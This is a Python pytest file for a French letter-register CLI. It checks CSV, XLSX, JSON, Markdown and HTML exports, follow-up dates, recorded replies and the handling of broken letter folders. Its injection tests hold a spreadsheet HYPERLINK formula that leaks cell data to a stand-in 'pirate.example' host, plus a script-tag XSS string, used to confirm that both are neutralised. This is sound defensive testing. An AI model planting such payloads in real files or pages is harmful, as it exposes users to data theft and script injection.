"""`lettres register` and `lettres answer`: the register read back in every format, the web
page parsed as HTML5, the follow-ups, and the bad folders it must list around."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import date, datetime
from pathlib import Path
from typing import Any

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lettres import register, register_formats
from lettres.journal import Sent, append_sent
from lettres.workspace import load_workspace
from tests.helpers import Invoke as Run

NB = "\u00a0"
HTML = "{http://www.w3.org/1999/xhtml}"
FOLDERS = {
    "engagements": "2015-04-21-interieur-vos-engagements",
    "circulaire": "2015-06-10-justice-la-circulaire",
    "rencontre": "2016-12-14-education-demande-de-rencontre",
}


def draft(run: Run, key: str, on: str, subject: str) -> None:
    result = run("draft", "--template", "courrier-general", "--to", key, "--date", on,
                 "--subject", subject, "--format", "docx")  # fmt: skip
    assert result.exit_code == 0, result.output


def set_front(folder: Path, key: str, value: str) -> None:
    """Add an entry to a letter's front matter, as a person editing it would."""
    source = folder / "lettre.md"
    text = source.read_text(encoding="utf-8")
    source.write_text(text.replace("---\n", f"---\n{key}: {value}\n", 1), encoding="utf-8")


def sent(folder: Path, on: datetime) -> None:
    append_sent(folder, Sent(f"<{on.isoformat()}@lettres>", on, ("cabinet@interieur.gouv.fr",), ()))


@pytest.fixture
def letters(run: Run, workspace: Path) -> dict[str, Path]:
    """Three letters: one sent with a follow-up, one with a dated follow-up, one draft."""
    draft(run, "interieur", "2015-04-21", "Vos engagements")
    draft(run, "justice", "2015-06-10", "La circulaire")
    draft(run, "education", "2016-12-14", "Demande de rencontre")
    folders = {name: workspace / "courriers" / folder for name, folder in FOLDERS.items()}
    set_front(folders["engagements"], "relance", "6 semaines")
    sent(folders["engagements"], datetime(2015, 4, 23, 10, 30))
    set_front(folders["circulaire"], "relance", "2015-09-01")
    for name, folder in folders.items():
        (folder / "lettre.pdf").write_bytes(f"%PDF-1.4 {name}".encode())
    return folders


def json_register(run: Run, *args: str) -> list[dict[str, object]]:
    result = run("register", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    data: list[dict[str, object]] = json.loads(result.stdout)
    return data


# ----------------------------------------------------------------------------- formats


def test_json_lists_every_letter_newest_first(run: Run, letters: dict[str, Path]) -> None:
    data = json_register(run, "--date", "2015-05-01")
    assert [d["objet"] for d in data] == [
        "Demande de rencontre",
        "La circulaire",
        "Vos engagements",
    ]
    engagements = data[2]
    assert engagements == {
        "date": "2015-04-21", "reference": "CTEH/2015/001", "cle": "interieur",
        "destinataire": "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur",
        "objet": "Vos engagements", "statut": "envoye", "envoye_le": "2015-04-23",
        "relance": "2015-06-04", "a_relancer": False, "repondu_le": None,
        "dossier": str(letters["engagements"]), "pdf": str(letters["engagements"] / "lettre.pdf"),
        "relance_de": None, "relance_par": None, "signataires": "Véronique Fayet",
    }  # fmt: skip
    assert data[1]["reference"] == "CTEH/2015/002"
    assert data[1]["statut"] == "brouillon"
    assert data[0]["reference"] == "CTEH/2016/001"


def read_csv(result: Any, format: str) -> list[dict[str, str]]:
    """The rows of the CSV on stdout, read the way its reader would: Excel's form is UTF-8
    behind a byte-order mark, with `;`; the plain form is bare UTF-8 with `,`."""
    data = result.stdout_bytes
    if format == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        text, delimiter = data.decode("utf-8-sig"), ";"
    else:
        assert not data.startswith(b"\xef\xbb\xbf")
        text, delimiter = data.decode("utf-8"), ","
    assert text.splitlines()[0] == delimiter.join(register_formats.FIELDS)
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("format", ["csv", "csv-utf8"])
def test_csv_reads_back(run: Run, letters: dict[str, Path], format: str) -> None:
    result = run("register", "--format", format, "--date", "2015-07-01")
    assert result.exit_code == 0, result.output
    rows = read_csv(result, format)
    assert [r["reference"] for r in rows] == ["CTEH/2016/001", "CTEH/2015/002", "CTEH/2015/001"]
    assert rows[2]["destinataire"] == "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur"
    assert (rows[2]["statut"], rows[2]["envoye_le"], rows[2]["a_relancer"]) == (
        "envoye", "2015-04-23", "oui"
    )  # fmt: skip
    assert (rows[0]["relance"], rows[0]["a_relancer"]) == ("", "non")


FORMULAS = [
    '=HYPERLINK("https://pirate.example/?v="&A1;"Cliquez ici")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("format", ["csv", "csv-utf8"])
def test_a_cell_a_spreadsheet_would_run_is_neutralised(format: str) -> None:
    """OWASP's CSV injection: a leading apostrophe makes the cell text; nothing else moves."""
    entries = [entry(payload, payload) for payload in FORMULAS]
    entries.append(entry("Objet ordinaire = sans danger", "Madame Anne-Marie Dupont"))
    today = date(2015, 5, 1)
    data = register_formats.file_bytes(format, entries, today)
    text = data.decode("utf-8-sig")
    rows = list(
        csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if format == "csv" else ",")
    )
    assert [row["objet"] for row in rows] == [f"'{payload}" for payload in FORMULAS] + [
        "Objet ordinaire = sans danger"
    ]
    assert [row["destinataire"] for row in rows][:-1] == [f"'{p}" for p in FORMULAS]
    assert rows[-1]["destinataire"] == "Madame Anne-Marie Dupont"
    assert rows[0]["date"] == "2015-04-21"


def test_a_formula_typed_in_an_objet_stays_text_in_every_spreadsheet_form(
    run: Run, workspace: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    draft(run, "interieur", "2015-04-21", FORMULAS[0])
    for format in ("csv", "csv-utf8"):
        assert (
            read_csv(run("register", "--format", format), format)[0]["objet"] == f"'{FORMULAS[0]}"
        )
    assert run("register", "--out", str(tmp_path / "registre.xlsx")).exit_code == 0
    cell = load_workbook(tmp_path / "registre.xlsx").active["E2"]
    assert (cell.value, cell.data_type) == (FORMULAS[0], "s")


def test_xlsx_has_a_header_row_typed_dates_and_booleans(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "Registre du Collectif.xlsx"
    result = run("register", "--format", "xlsx", "--out", str(out), "--date", "2015-07-01")
    assert result.exit_code == 0, result.output
    assert "3 courrier(s) écrit(s)" in result.stdout
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == register_formats.FIELDS
    assert [row[1] for row in rows[1:]] == ["CTEH/2016/001", "CTEH/2015/002", "CTEH/2015/001"]
    engagements = dict(zip(rows[0], rows[3], strict=True))
    assert engagements == {
        "date": datetime(2015, 4, 21), "reference": "CTEH/2015/001", "cle": "interieur",
        "destinataire": "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur",
        "objet": "Vos engagements", "statut": "envoye", "envoye_le": datetime(2015, 4, 23),
        "relance": datetime(2015, 6, 4), "a_relancer": True, "repondu_le": None,
        "dossier": str(letters["engagements"]), "pdf": str(letters["engagements"] / "lettre.pdf"),
        "relance_de": None, "relance_par": None, "signataires": "Véronique Fayet",
    }  # fmt: skip
    assert sheet["A4"].is_date and sheet["A4"].number_format == "DD/MM/YYYY"
    assert sheet["I2"].value is False and sheet["I2"].data_type == "b"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_xlsx_needs_a_file(run: Run, letters: dict[str, Path]) -> None:
    result = run("register", "--format", "xlsx")
    assert result.exit_code == 1
    assert "--out registre.xlsx" in result.stderr
    assert result.stdout == ""


def test_a_file_out_takes_its_format_from_its_name_and_is_never_overwritten(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    out = tmp_path / "registre.csv"
    assert run("register", "--out", str(out)).exit_code == 0
    first = out.read_bytes()
    assert first.startswith("\ufeffdate;reference;".encode())
    out.write_bytes(b"mes notes")
    refused = run("register", "--out", str(out))
    assert refused.exit_code == 1
    assert "existe déjà" in refused.stderr and "--force" in refused.stderr
    assert out.read_bytes() == b"mes notes"
    assert run("register", "--out", str(out), "--force").exit_code == 0
    assert out.read_bytes() == first
    assert run("register", "-f", "csv-utf8", "--out", str(tmp_path / "r.txt")).exit_code == 0
    assert (tmp_path / "r.txt").read_bytes().startswith(b"date,reference,")


def test_markdown_table(run: Run, letters: dict[str, Path]) -> None:
    result = run("register", "--format", "markdown", "--date", "2015-07-01")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "| Date | Réf. | Destinataire | Objet | Statut | Relance |"
    assert lines[1] == "|---|---|---|---|---|---|"
    assert len(lines) == 5
    cells = [c.strip() for c in lines[4].strip("|").split(" | ")]
    assert cells == ["2015-04-21", "CTEH/2015/001",
                     "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur", "Vos engagements",
                     "envoyé le 2015-04-23", "2015-06-04 (à relancer)"]  # fmt: skip


def test_table_is_the_default(run: Run, letters: dict[str, Path]) -> None:
    result = run("register")
    assert result.exit_code == 0, result.output
    text = result.stdout
    for words in ("CTEH/2015/001", "CTEH/2016/001", "brouillon", "Réf."):
        assert words in text


def test_an_empty_workspace_has_an_empty_register(run: Run) -> None:
    result = run("register")
    assert result.exit_code == 0, result.output
    assert "Aucun courrier." in result.stdout
    assert json_register(run) == []
    csv_result = run("register", "--format", "csv-utf8")
    assert csv_result.stdout.splitlines() == [
        "date,reference,cle,destinataire,objet,statut,envoye_le,relance,a_relancer,"
        "repondu_le,dossier,pdf,relance_de,relance_par,signataires"
    ]
    assert run("register", "--format", "csv").stdout_bytes.splitlines() == [
        "\ufeffdate;reference;cle;destinataire;objet;statut;envoye_le;relance;a_relancer;"
        "repondu_le;dossier;pdf;relance_de;relance_par;signataires".encode()
    ]


# ----------------------------------------------------------------------------- filters


@pytest.mark.parametrize(
    ("args", "objets"),
    [
        (["--year", "2015"], ["La circulaire", "Vos engagements"]),
        (["--year", "2014"], []),
        (["--to", "interieur"], ["Vos engagements"]),
        (["--to", "ministres"], ["Demande de rencontre", "La circulaire", "Vos engagements"]),
        (["--to", "justice", "--to", "education"], ["Demande de rencontre", "La circulaire"]),
        (["--status", "brouillon"], ["Demande de rencontre", "La circulaire"]),
        (["--status", "envoye"], ["Vos engagements"]),
        (["--status", "repondu"], []),
        (["--due", "--date", "2015-06-03"], []),
        (["--due", "--date", "2015-06-04"], ["Vos engagements"]),
        (["--due", "--date", "2015-09-01"], ["La circulaire", "Vos engagements"]),
        (["--due", "--date", "2015-09-01", "--to", "justice"], ["La circulaire"]),
    ],
)
def test_filters(run: Run, letters: dict[str, Path], args: list[str], objets: list[str]) -> None:
    assert [d["objet"] for d in json_register(run, *args)] == objets


def test_an_unknown_recipient_filter_is_an_error(run: Run, letters: dict[str, Path]) -> None:
    result = run("register", "--to", "interieu")
    assert result.exit_code == 1
    assert "destinataire inconnu « interieu » (clés proches : interieur" in result.stderr


def test_a_bad_status_is_a_usage_error(run: Run) -> None:
    assert run("register", "--status", "envoyé").exit_code == 2


# ----------------------------------------------------------------------------- follow-ups


def test_due_logic_with_a_fixed_today(workspace: Path, letters: dict[str, Path]) -> None:
    """6 weeks from the sending (23 April), not from the letter's date (21 April)."""
    book = register.list_letters(load_workspace(workspace), date(2015, 6, 3))
    assert book.problems == []
    by_name = {e.subject: e for e in book.entries}
    assert by_name["Vos engagements"].follow_up == date(2015, 6, 4)
    assert by_name["La circulaire"].follow_up == date(2015, 9, 1)
    assert by_name["Demande de rencontre"].follow_up is None

    def due(today: date) -> list[str]:
        ws = load_workspace(workspace)
        chosen = register.select(book.entries, ws.directory, today=today, due=True)
        return [e.subject for e in chosen]

    assert due(date(2015, 6, 3)) == []
    assert due(date(2015, 6, 4)) == ["Vos engagements"]
    assert due(date(2030, 1, 1)) == ["La circulaire", "Vos engagements"]


def test_a_draft_is_followed_up_from_its_own_date(
    run: Run, workspace: Path, letters: dict[str, Path]
) -> None:
    set_front(letters["rencontre"], "relance", "15 jours")
    data = json_register(run, "--due", "--date", "2016-12-29")
    assert [d["objet"] for d in data] == [
        "Demande de rencontre",
        "La circulaire",
        "Vos engagements",
    ]
    assert data[0]["relance"] == "2016-12-29"


def test_an_answer_ends_the_follow_up(run: Run, letters: dict[str, Path], tmp_path: Path) -> None:
    reply = tmp_path / "Réponse du ministre.PDF"
    reply.write_bytes(b"%PDF-1.4 reponse")
    result = run(
        "answer", str(letters["engagements"]), "--date", "2015-06-15", "--file", str(reply)
    )
    assert result.exit_code == 0, result.output
    copied = letters["engagements"] / "reponse-2015-06-15.pdf"
    assert copied.read_bytes() == b"%PDF-1.4 reponse"
    assert reply.read_bytes() == b"%PDF-1.4 reponse"  # the original stays where it was
    lines = (letters["engagements"] / "reponses.jsonl").read_text("utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [
        {"date": "2015-06-15", "fichier": "reponse-2015-06-15.pdf"}
    ]
    data = json_register(run, "--date", "2016-01-01")
    engagements = next(d for d in data if d["objet"] == "Vos engagements")
    assert (engagements["statut"], engagements["repondu_le"], engagements["a_relancer"]) == (
        "repondu", "2015-06-15", False
    )  # fmt: skip
    assert [d["objet"] for d in json_register(run, "--due", "--date", "2016-01-01")] == [
        "La circulaire"
    ]
    assert [d["objet"] for d in json_register(run, "--status", "repondu")] == ["Vos engagements"]
    assert [d["objet"] for d in json_register(run, "--status", "envoye")] == ["Vos engagements"]
    assert [d["objet"] for d in json_register(run, "--status", "brouillon")] == [
        "Demande de rencontre", "La circulaire"
    ]  # fmt: skip


def test_a_second_answer_never_overwrites_the_first(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    folder = letters["circulaire"]
    (folder / "reponse-2015-07-01.pdf").write_bytes(b"deja la")
    for content in (b"un", b"deux"):
        reply = tmp_path / "reponse.pdf"
        reply.write_bytes(content)
        result = run("answer", str(folder), "--date", "2015-07-01", "--file", str(reply))
        assert result.exit_code == 0, result.output
    assert (folder / "reponse-2015-07-01.pdf").read_bytes() == b"deja la"
    assert (folder / "reponse-2015-07-01-2.pdf").read_bytes() == b"un"
    assert (folder / "reponse-2015-07-01-3.pdf").read_bytes() == b"deux"
    answers = [json.loads(line) for line in (folder / "reponses.jsonl").read_text().splitlines()]
    assert [a["fichier"] for a in answers] == [
        "reponse-2015-07-01-2.pdf",
        "reponse-2015-07-01-3.pdf",
    ]
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_an_answer_without_a_file(run: Run, letters: dict[str, Path]) -> None:
    result = run("answer", str(letters["circulaire"]), "--date", "2015-07-01")
    assert result.exit_code == 0, result.output
    assert json.loads((letters["circulaire"] / "reponses.jsonl").read_text()) == {
        "date": "2015-07-01", "fichier": None
    }  # fmt: skip


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--date", "2015-06-01"], "ne peut pas précéder le courrier, daté du 2015-06-10"),
        (["--date", "2015-07-01", "--file", "absent.pdf"], "fichier introuvable : absent.pdf"),
    ],
)
def test_bad_answers(run: Run, letters: dict[str, Path], args: list[str], words: str) -> None:
    result = run("answer", str(letters["circulaire"]), *args)
    assert result.exit_code == 1
    assert words in " ".join(result.stderr.split())
    assert "Traceback" not in result.output
    assert not (letters["circulaire"] / "reponses.jsonl").exists()


def test_answering_a_folder_that_is_not_a_letter(run: Run, workspace: Path) -> None:
    result = run("answer", str(workspace / "modeles"), "--date", "2015-07-01")
    assert result.exit_code == 1
    assert "n'est pas le dossier d'un courrier : lettre.md y manque" in result.stderr


def test_a_bad_answer_date_is_a_usage_error(run: Run, letters: dict[str, Path]) -> None:
    result = run("answer", str(letters["circulaire"]), "--date", "1er juillet")
    assert result.exit_code == 2


# ----------------------------------------------------------------------------- the web page


def text_of(element: Any) -> str:
    return "".join(element.itertext())


def test_the_html_fragment_parses_and_mirrors_the_site(run: Run, letters: dict[str, Path]) -> None:
    result = run("register", "--format", "html", "--include-drafts")
    assert result.exit_code == 0, result.output
    fragment = html5lib.HTMLParser(strict=True).parseFragment(result.stdout)
    section = fragment.find(f"{HTML}section")
    assert text_of(section.find(f"{HTML}h2")) == "Courriers"
    items = section.findall(f"{HTML}article")
    assert [text_of(i.find(f"{HTML}h3")) for i in items] == [
        "Demande de rencontre", "La circulaire", "Vos engagements"
    ]  # fmt: skip
    first = items[2]
    assert text_of(first.find(f".//{HTML}time")) == f"21{NB}avril{NB}2015"
    assert first.find(f".//{HTML}time").get("datetime") == "2015-04-21"
    assert "Monsieur\u00a0Bernard Cazeneuve, Ministre de l'Intérieur" in text_of(first)
    link = first.find(f".//{HTML}a")
    assert text_of(link) == "Télécharger la lettre"
    assert link.get("href") == "2015-04-21-interieur-vos-engagements.pdf"


def test_out_writes_the_page_the_fragment_and_the_pdfs(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    site = tmp_path / "site"
    result = run("register", "--out", str(site), "--include-drafts")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in site.iterdir()) == [
        "2015-04-21-interieur-vos-engagements.pdf", "2015-06-10-justice-la-circulaire.pdf",
        "2016-12-14-education-demande-de-rencontre.pdf", "courriers.html", "index.html",
    ]  # fmt: skip
    page = html5lib.HTMLParser(strict=True).parse((site / "index.html").read_bytes())
    assert page.find(f"{HTML}head/{HTML}style") is not None
    assert text_of(page.find(f"{HTML}head/{HTML}title")).startswith("Courriers du Collectif")
    links = page.findall(f".//{HTML}a")
    assert len(links) == 3
    by_folder = {folder.name: folder for folder in letters.values()}
    for link in links:
        target = site / link.get("href")
        assert target.read_bytes() == (by_folder[target.stem] / "lettre.pdf").read_bytes()
    fragment = html5lib.HTMLParser(strict=True).parseFragment(
        (site / "courriers.html").read_text("utf-8")
    )
    assert [a.get("href") for a in fragment.findall(f".//{HTML}a")] == [
        a.get("href") for a in links
    ]


def test_the_public_page_shows_only_what_was_sent(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    assert run("answer", str(letters["circulaire"]), "--date", "2015-07-01").exit_code == 0
    site = tmp_path / "site"
    result = run("register", "--out", str(site))
    assert result.exit_code == 0, result.output
    assert "1 brouillon(s) laissé(s) hors de la page web" in result.stderr
    assert sorted(p.name for p in site.iterdir()) == [
        "2015-04-21-interieur-vos-engagements.pdf", "2015-06-10-justice-la-circulaire.pdf",
        "courriers.html", "index.html",
    ]  # fmt: skip
    page = html5lib.HTMLParser(strict=True).parse((site / "index.html").read_bytes())
    titles = [text_of(h) for h in page.findall(f".//{HTML}h3")]
    assert titles == ["La circulaire", "Vos engagements"]  # sent, and answered: never the draft
    fragment = run("register", "--format", "html")
    assert fragment.exit_code == 0, fragment.output
    assert "Demande de rencontre" not in fragment.stdout and "Vos engagements" in fragment.stdout
    preview = run("register", "--format", "html", "--include-drafts")
    assert "Demande de rencontre" in preview.stdout


def test_out_refuses_a_folder_that_is_not_empty(
    run: Run, letters: dict[str, Path], tmp_path: Path
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "autre.html").write_text("à garder", "utf-8")
    result = run("register", "--out", str(site))
    assert result.exit_code == 1
    assert "n'est pas vide" in result.stderr
    assert [p.name for p in site.iterdir()] == ["autre.html"]
    result = run("register", "--out", str(site), "--force")
    assert result.exit_code == 0, result.output
    assert (site / "autre.html").read_text("utf-8") == "à garder"
    assert "<!DOCTYPE html>" in (site / "index.html").read_text("utf-8")


def test_out_is_no_table(run: Run, letters: dict[str, Path], tmp_path: Path) -> None:
    result = run("register", "--format", "table", "--out", str(tmp_path / "site"))
    assert result.exit_code == 1
    assert "--format xlsx, csv ou html" in result.stderr
    assert not (tmp_path / "site").exists()


def test_a_letter_without_pdf_has_no_link_and_a_warning(run: Run, letters: dict[str, Path]) -> None:
    (letters["circulaire"] / "lettre.pdf").unlink()
    result = run("register", "--format", "html", "--include-drafts")
    assert result.exit_code == 0, result.output
    assert (
        "pas de PDF dans" in result.stderr and "2015-06-10-justice-la-circulaire" in result.stderr
    )
    fragment = html5lib.HTMLParser(strict=True).parseFragment(result.stdout)
    items = fragment.findall(f".//{HTML}article")
    assert [i.find(f".//{HTML}a") is None for i in items] == [False, True, False]


def test_every_text_is_escaped(run: Run, workspace: Path, tmp_path: Path) -> None:
    subject = "Essai <script>alert('x')</script> & \"co\" | fin"
    draft(run, "interieur", "2015-04-21", subject)
    folder = next(p for p in (workspace / "courriers").iterdir() if p.is_dir())
    (folder / "lettre.pdf").write_bytes(b"%PDF")
    result = run("register", "--format", "html", "--include-drafts")
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.stdout
    assert "&lt;script&gt;" in result.stdout and "&amp;" in result.stdout
    fragment = html5lib.HTMLParser(strict=True).parseFragment(result.stdout)
    assert fragment.find(f".//{HTML}script") is None
    heading = text_of(fragment.find(f".//{HTML}h3"))
    assert "<script>alert(" in heading and "& " in heading
    assert run("register", "--out", str(tmp_path / "site"), "--include-drafts").exit_code == 0
    page = html5lib.HTMLParser(strict=True).parse((tmp_path / "site" / "index.html").read_bytes())
    assert page.find(f".//{HTML}script") is None
    markdown = run("register", "--format", "markdown").stdout.splitlines()
    assert len(markdown[2].split(" | ")) == 6  # the | of the objet stays inside its cell
    assert "<script>" not in markdown[2]
    assert json_register(run)[0]["objet"] == subject
    for format in ("csv", "csv-utf8"):
        assert read_csv(run("register", "-f", format), format)[0]["objet"] == subject


# ----------------------------------------------------------------------------- bad folders


def test_a_folder_without_source_is_reported_and_the_rest_listed(
    run: Run, workspace: Path, letters: dict[str, Path]
) -> None:
    empty = workspace / "courriers" / "2015-05-01-vide"
    empty.mkdir()
    (empty / "notes.txt").write_text("rien", "utf-8")
    result = run("register", "--format", "json")
    assert result.exit_code == 1
    assert len(json.loads(result.stdout)) == 3
    assert "2015-05-01-vide: erreur : dossier sans source lettre.md" in result.stderr
    assert "Traceback" not in result.output


def test_a_corrupt_journal_is_reported_and_its_letter_still_listed(
    run: Run, letters: dict[str, Path]
) -> None:
    journal = letters["engagements"] / "envois.jsonl"
    journal.write_text(journal.read_text("utf-8") + "{pas du json\n", "utf-8")
    result = run("register", "--format", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert [d["objet"] for d in data] == [
        "Demande de rencontre",
        "La circulaire",
        "Vos engagements",
    ]
    assert data[2]["statut"] == "inconnu"
    assert "envois.jsonl:2: erreur : ligne de journal illisible" in result.stderr
    markdown = run("register", "--format", "markdown").stdout
    assert "| envoi inconnu (journal illisible) |" in markdown


def test_a_front_matter_that_no_longer_parses(run: Run, letters: dict[str, Path]) -> None:
    source = letters["circulaire"] / "lettre.md"
    source.write_text(
        source.read_text("utf-8").replace("objet: La circulaire", "objet: [La circulaire"), "utf-8"
    )
    result = run("register", "--format", "json")
    assert result.exit_code == 1
    assert [d["objet"] for d in json.loads(result.stdout)] == [
        "Demande de rencontre",
        "Vos engagements",
    ]
    assert "2015-06-10-justice-la-circulaire/lettre.md:" in result.stderr
    assert "YAML invalide" in result.stderr


def test_a_bad_relance_is_reported_at_its_line(run: Run, letters: dict[str, Path]) -> None:
    set_front(letters["rencontre"], "relance", "bientôt")
    result = run("register", "--format", "json")
    assert result.exit_code == 1
    assert len(json.loads(result.stdout)) == 2
    assert (
        "2016-12-14-education-demande-de-rencontre/lettre.md:2: erreur : « relance : bientôt » "
        "n'est pas compris" in " ".join(result.stderr.split())
    )


def test_a_letter_whose_recipient_cannot_be_resolved_shows_its_key(
    run: Run, letters: dict[str, Path]
) -> None:
    source = letters["rencontre"] / "lettre.md"
    source.write_text(
        source.read_text("utf-8").replace("destinataire: education", "destinataire: ancien-poste"),
        "utf-8",
    )
    data = json_register(run, "--to", "ancien-poste")
    assert [(d["cle"], d["destinataire"]) for d in data] == [("ancien-poste", "ancien-poste")]


# ----------------------------------------------------------------------------- read only


def snapshot(root: Path) -> dict[Path, tuple[bytes, int]]:
    return {
        path: (path.read_bytes(), os.stat(path).st_mtime_ns)
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def test_register_only_reads(
    run: Run, workspace: Path, letters: dict[str, Path], tmp_path: Path
) -> None:
    (letters["engagements"] / "reponses.jsonl").write_text('{"date": "2015-06-15"}\n', "utf-8")
    before = snapshot(workspace)
    folders_before = sorted(p for p in workspace.rglob("*") if p.is_dir())
    for format in ("table", "csv", "csv-utf8", "json", "markdown", "html"):
        assert run("register", "--format", format).exit_code == 0
    assert run("register", "--due", "--to", "ministres", "--year", "2015").exit_code == 0
    assert run("register", "--out", str(tmp_path / "site")).exit_code == 0
    assert snapshot(workspace) == before
    assert sorted(p for p in workspace.rglob("*") if p.is_dir()) == folders_before


# ----------------------------------------------------------------------------- any text


def entry(subject: str, recipient: str) -> register.Entry:
    return register.Entry(
        folder=Path("courriers/2015-04-21-interieur-essai"), dated=date(2015, 4, 21),
        reference="CTEH/2015/001", to="interieur", recipient=recipient, subject=subject,
        sent_on=None, answered_on=None, follow_up=None, pdf=Path("lettre.pdf"),
    )  # fmt: skip


@settings(max_examples=100, deadline=None)
@given(st.text(), st.text())
def test_any_text_gives_valid_html_and_reads_back(subject: str, recipient: str) -> None:
    entries = [entry(subject, recipient)]
    fragment = html5lib.HTMLParser(strict=True).parseFragment(
        register_formats.html_fragment(entries)
    )
    article = fragment.find(f"{HTML}section/{HTML}article")
    assert [child.tag for child in article] == [f"{HTML}p", f"{HTML}h3", f"{HTML}p", f"{HTML}p"]
    assert len(fragment.findall(f".//{HTML}a")) == 1
    page = register_formats.html_page(entries, subject)
    html5lib.HTMLParser(strict=True).parse(page)
    today = date(2015, 5, 1)
    markdown = register_formats.to_markdown(entries, today).splitlines()
    assert len(markdown) == 3
    assert len(re.split(r"(?<!\\)\|", markdown[2])) == 8  # six cells between seven bars
    assert json.loads(register_formats.to_json(entries, today))[0]["objet"] == subject
    row = next(csv.DictReader(io.StringIO(register_formats.to_csv(entries, today), newline="")))
    assert row["objet"] == (f"'{subject}" if subject.startswith(tuple("=+-@\t\r")) else subject)
